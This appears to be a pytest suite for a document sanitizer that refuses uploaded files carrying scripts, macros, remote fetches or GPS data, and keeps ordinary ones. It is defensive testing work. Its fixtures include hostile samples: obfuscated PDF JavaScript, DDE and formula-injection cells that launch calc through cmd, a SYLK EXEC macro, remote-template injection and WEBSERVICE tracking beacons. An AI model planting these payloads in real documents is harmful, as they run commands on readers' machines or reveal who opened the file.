"""Evasions: what runs, fetches or tells a place, written as a reader still understands it and a search would not."""

import base64
import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image

from tests.storage.reports.file_samples import kept, pdf, refusal, zipped

SCRIPT = b"5 0 <</S/JavaScript/JS(app.alert(1))>>"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def document(files: dict[str, bytes] | None = None, *, said: str = "", kinds: str = "", related: str = "") -> bytes:
    """A Word document with these fields, declared types and relationships."""
    body = f'<x:document xmlns:x="{WORDS}">{said}</x:document>'
    rels = related if "Relationships" in related else f"<Relationships>{related}</Relationships>"
    return zipped(
        {
            "[Content_Types].xml": f"<Types>{kinds}</Types>".encode(),
            "word/document.xml": body.encode(),
            "word/_rels/document.xml.rels": rels.encode(),
            **(files or {}),
        }
    )


def objects(data: bytes, head: bytes = b"/Filter/FlateDecode", behind: bytes = b"") -> bytes:
    return pdf(b"<</Type/ObjStm/N 1/First 4" + head + b">>" + behind + b"\nstream\n" + data + b"\nendstream")


def unchecked(data: bytes) -> bytes:
    """Deflated, with a checksum that is wrong: readers do not mind."""
    return zlib.compress(data)[:-4] + b"\0\0\0\0"


def predicted(data: bytes, width: int = 4) -> bytes:
    return zlib.compress(b"".join(b"\0" + data[at : at + width] for at in range(0, len(data), width)))


def far(kind: str, target: str = "http://e.example/x", tag: str = "Relationship") -> str:
    return f'<{tag} Id="a" Type="{RELATED}/{kind}" Target="{target}" TargetMode="External"/>'


def photo(image_format: str = "JPEG") -> bytes:
    exif, made = Image.Exif(), io.BytesIO()
    exif.get_ifd(0x8825).update({1: "N", 2: (18.0, 29.0, 0.0), 3: "W", 4: (69.0, 54.0, 0.0)})
    Image.new("RGB", (20, 20), "red").save(made, image_format, exif=exif)
    return made.getvalue()


PACKED = zlib.compress(SCRIPT)
EVASIONS: dict[str, tuple[bytes, str, str]] = {
    # what: bytes, name, reason
    "objects in base 85": (
        objects(base64.a85encode(PACKED) + b"~>", b"/Filter[/ASCII85Decode/FlateDecode]"),
        "a.pdf",
        "scripts",
    ),
    "objects in hexadecimal": (objects(SCRIPT.hex().encode() + b">", b"/Filter/ASCIIHexDecode"), "a.pdf", "scripts"),
    "objects in LZW": (objects(b"\x80", b"/Filter/LZWDecode"), "a.pdf", "scripts"),
    "objects behind a predictor": (
        objects(predicted(SCRIPT), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>"),
        "a.pdf",
        "scripts",
    ),
    "objects with a filter elsewhere": (objects(PACKED, b"/Filter 9 0 R"), "a.pdf", "scripts"),
    "objects without their type": (
        pdf(b"<</N 1/First 4/Filter/FlateDecode>>stream\n" + PACKED + b"\nendstream"),
        "a.pdf",
        "scripts",
    ),
    "objects with a wrong checksum": (objects(unchecked(SCRIPT)), "a.pdf", "scripts"),
    "objects behind a comment": (objects(PACKED, behind=b"%x"), "a.pdf", "scripts"),
    "objects with a long head": (objects(PACKED, b" " * 3000 + b"/Filter/FlateDecode"), "a.pdf", "scripts"),
    "a form of XML": (pdf(b"<</AcroForm<</XFA 3 0 R>>>>"), "a.pdf", "scripts"),
    "a form that is sent": (pdf(b"<</OpenAction<</S/SubmitForm/F(http://e.example)>>>>"), "a.pdf", "remote"),
    "a page on a server of somebody else": (pdf(b"<</S/GoToR/F(\\\\\\\\e.example\\\\x)>>"), "a.pdf", "remote"),
    "a photo packed once more": (
        pdf(b"<</Filter[/FlateDecode/DCTDecode]>>stream\n" + zlib.compress(photo()) + b"\nendstream"),
        "a.pdf",
        "place",
    ),
    "a photo in base 85": (
        pdf(b"<</Filter[/A85/DCTDecode]>>stream\n" + base64.a85encode(photo()) + b"~>\nendstream"),
        "a.pdf",
        "place",
    ),
    "macros under another name": (
        document(
            {"word/a.bin": b"x"},
            kinds='<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "a.docx",
        "macros",
    ),
    "a document of macros renamed": (
        document(
            kinds='<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "a.docx",
        "macros",
    ),
    "macros in a document inside": (
        document({"word/embeddings/a.docx": document({"word/vbaProject.bin": b"x"})}),
        "a.docx",
        "macros",
    ),
    "an object under another name": (
        document(
            {"word/media/a.bin": b"x"}, related=f'<Relationship Type="{RELATED}/oleObject" Target="media/a.bin"/>'
        ),
        "a.docx",
        "attached",
    ),
    "an archive inside": (document({"word/media/a.dat": zipped({"a.js": b"x"})}), "a.docx", "attached"),
    "a program inside": (document({"word/media/a.png": b"MZ" + bytes(99)}), "a.docx", "executable"),
    "a template under a prefix": (
        document(related=f"<p:Relationships>{far('attachedTemplate', tag='p:Relationship')}</p:Relationships>"),
        "a.docx",
        "remote",
    ),
    "a template in references": (
        document(related=far("attachedTemplate", "&#104;ttp://e.example/x")),
        "a.docx",
        "remote",
    ),
    "a template in UTF-16": (
        document({"word/_rels/settings.xml.rels": f"<Relationships>{far('frame')}</Relationships>".encode("utf-16")}),
        "a.docx",
        "remote",
    ),
    "a picture from elsewhere": (document(related=far("image")), "a.docx", "remote"),
    "entities": (document({"word/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "a.docx", "damaged"),
    "DDE under a prefix": (document(said="<x:instrText>DDEAUTO c:\\x</x:instrText>"), "a.docx", "remote"),
    "DDE in references": (document(said="<x:instrText>&#68;DEAUTO c:\\x</x:instrText>"), "a.docx", "remote"),
    "DDE in pieces": (
        document(said="<x:instrText>DD</x:instrText><x:t>a</x:t><x:instrText>E c:\\x</x:instrText>"),
        "a.docx",
        "remote",
    ),
    "DDE in a workbook, elsewhere": (
        zipped({"xl/workbook.xml": b"<a/>", "xl/foo/a.xml": b"<x:externalLink><x:ddeLink/></x:externalLink>"}),
        "a.xlsx",
        "remote",
    ),
    "a slide that starts a program": (
        zipped({"ppt/presentation.xml": b"<a/>", "ppt/slides/a.xml": b'<a:hlinkClick action="ppaction://program"/>'}),
        "a.pptx",
        "scripts",
    ),
    "a style that starts a macro": (
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "styles.xml": b"<s:event-listener/>"}),
        "a.odt",
        "archive",  # its type has to be stored as it is
    ),
    "a photo without a name": (document({"word/media/a.dat": photo()}), "a.docx", "place"),
    "a photo in WebP": (document({"word/media/a.webp": photo("WEBP")}), "a.docx", "place"),
    "a cell that calls a program": (b"a,b\n=cmd|'/c calc'!A1,3\n", "a.csv", "remote"),
    "a cell that calls a program, quoted": (b"a;b\n\"+cmd|'/c calc'!A1\";3\n", "a.csv", "remote"),
    "macros of SYLK": (b'ID;P\nO;E\nC;X1;Y1;K0;EEXEC("calc")\nE\n', "a.csv", "macros"),
    "a page behind blanks": (b" " * 5000 + b"<html><script>1</script>", "a.html", "html"),
    "a template of RTF": (b"{\\rtf1{\\*\\template http://e.example/x.dotm}}", "a.rtf", "remote"),
    "DDE of RTF": (b"{\\rtf1{\\field{\\*\\fldinst {\\'44DEAUTO c:\\\\x}}}}", "a.rtf", "remote"),
}


@pytest.mark.parametrize("what", EVASIONS)
def test_no_way_of_writing_it_hides_what_a_document_does(what: str) -> None:
    """The reader on the other side is forgiving, so the one who looks is, too."""
    data, name, reason = EVASIONS[what]
    assert refusal(data, name) == reason


def workbook(formula: str = "", *, encoding: str = "utf-8", **parts: bytes) -> bytes:
    sheet = f"<x:worksheet xmlns:x='a'><x:c><x:f t='a'>{formula}</x:f></x:c></x:worksheet>" if formula else "<a/>"
    files = {"book": b"<workbook/>", "connections": b"<a/>", "links": b"<Relationships/>"} | parts
    return zipped(
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.xml": files["book"],
            "xl/worksheets/sheet1.xml": sheet.encode(encoding),
            "xl/connections.xml": files["connections"],
            "xl/externalLinks/_rels/a.xml.rels": files["links"],
        }
    )


def linked(target: str) -> bytes:
    return f"<Relationships>{far('externalLinkPath', target)}</Relationships>".encode()


OPENED = b"<</Type/Catalog/Open#41ction 5 0 R>>\nendobj\n5 0 obj\n"
ASKS = {
    "a function": (workbook('_xlfn.WEBSERVICE("http://e.example/"&amp;A1)'), "a.xlsx"),
    "a function in references": (workbook('_xlfn.&#87;EBSERVICE("http://e.example")'), "a.xlsx"),
    "a function in UTF-16": (workbook('_xlfn.IMAGE("http://e.example")', encoding="utf-16"), "a.xlsx"),
    "a name": (workbook(book=b"<workbook><definedName>_xlfn.WEBSERVICE(A1)</definedName></workbook>"), "a.xlsx"),
    "a workbook elsewhere": (workbook(links=linked("file:////e.example/x.xlsx")), "a.xlsx"),
    "a database": (workbook(connections=b"<connections><connection refreshOnLoad='1'/></connections>"), "a.xlsx"),
    "a binary workbook": (
        zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": "_xlfn.WEBSERVICE".encode("utf-16-le")}),
        "a.xlsb",
    ),
    "a table": (b'a,b\n"=WEBSERVICE(""http://e.example/""&A1)",3\n', "a.csv"),
    "a page at the opening": (pdf(b"<</OpenAction<</S/URI/URI(http://e.example)>>>>"), "a.pdf"),
    "a page elsewhere in the file": (pdf(OPENED + b"<</S /#55RI /URI (http://e.example)>>"), "a.pdf"),
    "a page behind another action": (
        pdf(OPENED + b"<</S/GoTo/Next[7 0 R]>>\nendobj\n7 0 obj\n<</S/URI/URI(http://e.example)>>"),
        "a.pdf",
    ),
    "a page when a page is shown": (pdf(b"<</AA<</O 6 0 R>>>>\nendobj\n6 0 obj\n<</S/URI/URI(http://e)>>"), "a.pdf"),
    "a page in packed objects": (
        objects(zlib.compress(b"1 0 5 32 <</Type/Catalog/OpenAction 5 0 R>> <</S/URI/URI(http://e.example)>>")),
        "a.pdf",
    ),
}


@pytest.mark.parametrize("what", ASKS)
def test_no_server_learns_who_opened_the_evidence(what: str) -> None:
    """Formulas that ask a server, workbooks and databases elsewhere, and pages that a PDF opens by itself."""
    data, name = ASKS[what]
    assert refusal(data, name) == "remote"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (objects(zlib.compress(b"5 0 <</Type/Page>>")), "a.pdf"),
        (document(said="<x:instrText>PAGE</x:instrText>", related=far("hyperlink")), "a.docx"),
        (document({"word/embeddings/a.xlsx": zipped({"[Content_Types].xml": b"<Types/>"})}), "a.docx"),
        (document({"word/media/a.png": b"\x89PNG\r\n\x1a\n", "word/fonts/a.odttf": bytes(9)}), "a.docx"),
        (b"a,b\n=SUM(A1:A2),-3\n", "a.csv"),
        (b"- 3 image(s)\n+ 2 image(s), =x\n", "a.txt"),
        (workbook("SUM(A1:A9)+IF(B1,1,2)", links=linked("otro.xlsx")), "a.xlsx"),
        (pdf(b"<</OpenAction[3 0 R/Fit]>>\nendobj\n5 0 obj\n<</Subtype/Link/A<</S/URI/URI(http://e)>>>>"), "a.pdf"),
        (
            pdf(
                OPENED + b"<</S/GoTo/D[3 0 R]>>\nendobj\n3 0 obj\n<</Annots[9 0 R]>>\nendobj\n9 0 obj\n"
                b"<</Subtype/Link/A<</S/URI/URI(http://e)>>>>"
            ),
            "a.pdf",
        ),
        (b"{\\rtf1{\\*\\template C:\\\\Normal.dotm}hola}", "a.rtf"),
    ],
)
def test_what_documents_usually_hold_is_kept(data: bytes, name: str) -> None:
    """Page numbers, links, the table behind a chart, letters, formulas, the page that is shown first, a template."""
    assert kept(data, name).data == data


@pytest.mark.parametrize(
    ("sent", "named"), [("a.iqy", "a.iqy.txt"), ("a.url", "a.url.txt"), ("acta.v2", "acta.v2.txt"), ("acta", "acta")]
)
def test_an_ending_that_nothing_here_knows_starts_nothing(sent: str, named: str) -> None:
    """What the system of whoever opens it would start by its name is kept as the text that it is."""
    found = kept(b"WEB\n1\nhola\n", sent)
    assert (found.original_name, found.mime_type) == (named, "text/plain")


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", 8 + len(data)) + kind + data


LOCI = bytes(4) + b"\x15\xc7\0\0" + struct.pack(">iii", -4583195, 1211504, 0) + b"tierra\0\0"


@pytest.mark.parametrize(
    ("told", "secret"),
    [
        (_box(b"\xa9xyz", b"\0\x12\x15\xc7+182959.9-0695552.3/"), b"182959"),
        (_box(b"loci", LOCI), struct.pack(">ii", -4583195, 1211504)),
        (_box(b"uuid", b'<r exif:GPSLatitude="18,29.16N" exif:GPSLongitude="69,54.2W"/>'), b"29.16"),
        (_box(b"uuid", b"<exif:GPSLatitude>18,29.16N</exif:GPSLatitude>"), b"29.16"),
    ],
)
def test_a_video_forgets_its_place_however_it_is_written(told: bytes, secret: bytes) -> None:
    """With minutes and seconds, as 3GPP has it, and in XMP; the file is as long as before."""
    video = _box(b"ftyp", b"mp42\0\0\0\0mp42isom") + _box(b"moov", _box(b"udta", told)) + _box(b"mdat", bytes(64))
    found = kept(video, "v.mp4", accept="video")
    assert secret in video
    assert secret not in found.data
    assert len(found.data) == len(video)


TRACK = b"GPS5l\x14\0\x02" + struct.pack(">10i", *range(184_700_000, 184_700_010))
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x82\x84webm" + bytes(20)


@pytest.mark.parametrize(
    ("name", "data", "secret"),
    [
        ("v.mp4", _box(b"ftyp", b"mp42\0\0\0\0mp42isom") + _box(b"mdat", TRACK), TRACK[8:]),
        ("v.webm", WEBM + b"LOCATION\x44\x87\x91+18.4861-069.9312/", b"18.4861"),
    ],
)
def test_a_recording_of_any_kind_forgets_its_place(name: str, data: bytes, secret: bytes) -> None:
    """The track of a camera that notes each second where it is, and a browser's recording."""
    found = kept(data, name, accept="video")
    assert (secret in data, secret in found.data, len(found.data)) == (True, False, len(data))


def test_a_recording_whose_cover_tells_a_place_is_refused() -> None:
    """A photo is on the cover of a sound as it came from the phone."""
    assert refusal(b"ID3\x03\0\0\0\0\x0f\x76APIC" + photo(), "a.mp3", accept="audio") == "place"


TEMPLATE = b"{\\rtf1{\\*\\template %s}x}"
SIGNED = b"".join(b"\\u%d?" % (ord(letter) - 65_536) for letter in "http://e.example/t")


def odf(content: str, **parts: bytes) -> bytes:
    out, said = io.BytesIO(), f"<d xmlns:k='k' xmlns:x='x'>{content}</d>"
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        for name, part in {"content.xml": said.encode(), **parts}.items():
            archive.writestr(name, part)
    return out.getvalue()


def sheet(formula: str) -> bytes:
    told = {"xl/workbook.xml": b"<a/>", "xl/worksheets/s.xml": f"<f>{formula}</f>".encode()}
    return zipped({"[Content_Types].xml": b"<Types/>", **told})


PIVOT = b"<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='%s'/></pivotCacheDefinition>"


def pivot(source: bytes) -> bytes:
    told = {"xl/workbook.xml": b"<a/>", "xl/pivotCache/pivotCacheDefinition1.xml": PIVOT % source}
    return zipped({"[Content_Types].xml": b"<Types/>", **told})


ELSEWHERE = (
    *(
        (f"a template at {target}", "a.docx", document(related=far("attachedTemplate", target)))
        for target in (
            "file://e.example/s/t.dotm", "file:///\\\\e\\s", "mhtml:http://e.example/t", "smb://e/t", "/\\e.example/t",
            "%5C%5Ce/t",
        )
    ),
    *(
        (f"{kind} of another server", "a.docx", document(related=far(kind)))
        for kind in ("font", "transform", "mailMergeSource", "package", "slideUpdateUrl", "xlPathMissing")
    ),
    ("an add-in", "a.docx", document(said="<x:webextension xmlns:x='x'/>")),
    ("a database in a field", "a.docx", document(said="<x:instrText xmlns:x='x'>DATABASE \\d http://e</x:instrText>")),
    *(
        (name, "a.odt", odf(f"<x:{name} k:href='http://e.example/x'/>"))
        for name in (
            "section-source", "background-image", "fill-image", "list-level-style-image", "font-face-uri",
            "auto-reload", "table-source", "cell-range-source", "sound", "connection-resource",
        )
    ),
    ("a picture on a share", "a.odt", odf("<x:image k:href='file://e.example/s/i.png'/>")),
    ("a cell of another document", "a.odt", odf("<x:c x:formula=\"of:=['http://e.example/x.ods'#$S.A1]\"/>")),
    ("DDE as a function", "a.odt", odf("<x:c x:formula='of:=DDE(&quot;cmd&quot;;&quot;c&quot;)'/>")),
    ("DDE in a cell", "a.xlsx", sheet("cmd|'/c calc'!A0")),
    ("a pivot table of a database", "a.xlsx", pivot(b"external")),
    ("a template of an RTF in signed letters", "a.rtf", TEMPLATE % SIGNED),
    ("a template of an RTF on a share", "a.rtf", TEMPLATE % b"file://e.example/t"),
    ("a PDF elsewhere, in hex", "a.pdf", pdf(b"/S/GoToR/F <FEFF005C005C0065>")),
    ("a PDF elsewhere, by its long name", "a.pdf", pdf(b"/S/Thread/UF(\\\\\\\\e\\s)")),
    ("a film of the web", "a.pdf", pdf(b"/D<</FS/URL/F(x.mp4)>>")),
    ("a picture of the web", "a.pdf", pdf(b"/Subtype/Image/F(https://e.example/x)")),
)  # fmt: skip


@pytest.mark.parametrize(("name", "data"), [each[1:] for each in ELSEWHERE], ids=[each[0] for each in ELSEWHERE])
def test_what_is_fetched_from_elsewhere_is_refused_whatever_kind_of_part_it_is(name: str, data: bytes) -> None:
    """Only links are followed by hand; every other address is asked by the program that opens the document."""
    assert refusal(data, name) in ("remote", "scripts")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.docx", document(related=far("attachedTemplate", "file:///C:\\Users\\ana\\Normal.dotm"))),
        ("a.docx", document(related=far("image", "file:///srv/ana/foto.png"))),
        ("a.docx", document(related=far("image", "C:\\fotos\\a.png"))),
        ("a.docx", document(related=far("hyperlink"))),
        ("a.odt", odf("<x:a k:href='http://e.example/x'/><x:image k:href='Pictures/1.png'/>")),
        ("a.odt", odf("", **{"meta.xml": b"<d xmlns:k='k' xmlns:x='x'><x:template k:href='http://e.example/t'/></d>"})),
        ("a.xlsx", sheet("IF('A|B'!A1&gt;0,&quot;a|b!&quot;,'C'!A1)")),
        ("a.xlsx", pivot(b"worksheet")),
        ("a.rtf", TEMPLATE % b"C:\\\\Users\\\\ana\\\\Normal.dotm"),
        ("a.pdf", pdf(b"/F(foto.jpg)/UF<FEFF0066>")),
    ],
)
def test_what_lies_on_this_computer_or_waits_for_somebody_is_kept(name: str, data: bytes) -> None:
    """A template of Word's own, a linked photo, a link, the names of sheets."""
    assert kept(data, name)


FETCHES = f"<x:document xmlns:x='{WORDS}'><x:fldSimple x:instr='{{}}'/></x:document>"


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("a.docx", document({"word/other.bin": FETCHES.format("DDEAUTO c").encode()}), "remote"),
        ("a.docx", document({"word/other.bin": FETCHES.format("DDEAUTO c").encode("utf-16")}), "remote"),
        ("a.docx", document(said="<x:fldSimple x:instr='INCLUDEPICTURE &quot;http://e.example/x&quot;'/>"), "remote"),
        ("a.docx", document(said="<x:instrText> INCLUDETEXT \\\\\\\\e.example\\\\x </x:instrText>"), "remote"),
        ("a.docx", document({"word/a.htm": b"<p>x</p>"}, related=far("aFChunk", "a.htm")), "attached"),
        (
            "a.xlsx",
            zipped(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "xl/workbook.xml": b"<workbook/>",
                    "xl/connections.xml": b"<connections><connection><webPr url='http://e.example'/></connection></connections>",
                }
            ),
            "remote",
        ),
        ("a.rtf", b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://e.example/x"}}}', "remote"),
    ],
    ids=["part of another name", "in UTF-16", "picture field", "text field", "chunk", "web query", "rich text"],
)
def test_what_is_fetched_when_it_is_opened_is_refused_whatever_fetches_it(name: str, data: bytes, reason: str) -> None:
    """A field, a query, another document that is merged in, and a part whose name says nothing of what it is."""
    assert refusal(data, name) == reason


@pytest.mark.parametrize(
    "data",
    [
        document(said="<x:instrText> HYPERLINK &quot;http://e.example&quot; </x:instrText>"),
        document(
            said="<x:instrText> INCLUDEPICTURE &quot;local.png&quot; HYPERLINK &quot;http://e.example&quot;</x:instrText>"
        ),
        document({"word/vmlDrawing1.vml": b"<xml><br><v:shape></xml>"}),
    ],
    ids=["hyperlink", "picture beside it", "loose markup"],
)
def test_a_link_and_loose_markup_do_nothing(data: bytes) -> None:
    """They are in the documents that offices send."""
    assert kept(data, "a.docx")
